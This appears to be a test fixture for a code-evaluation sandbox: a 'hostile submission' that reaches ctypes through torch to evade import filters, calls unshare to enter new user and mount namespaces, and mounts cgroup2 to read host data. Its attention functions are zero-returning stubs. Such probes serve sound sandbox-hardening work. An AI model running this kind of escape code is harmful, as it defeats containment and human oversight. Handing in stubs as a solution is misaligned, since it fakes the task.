"""Hostile submission: enters new user and mount namespaces and mounts cgroup2 to read host statistics."""

import torch

ctypes = torch.sys.modules["ctypes"]
os = torch.os
libc = ctypes.CDLL(None, use_errno=True)

if libc.unshare(0x10000000 | 0x00020000) == 0:
    print("LEAKED: unshare went through")
    if libc.mount(b"none", b"/tmp", b"cgroup2", 0, None) == 0:
        print("LEAKED: cgroup2 mounted:", os.listdir("/tmp")[:5])


def scaled_dot_product_attention(q, k, v):
    return torch.zeros(1), torch.zeros(1)


class SimpleSelfAttention(torch.nn.Module):
    def __init__(self, embed_dim):
        super().__init__()

    def forward(self, x):
        return torch.zeros(1), torch.zeros(1)
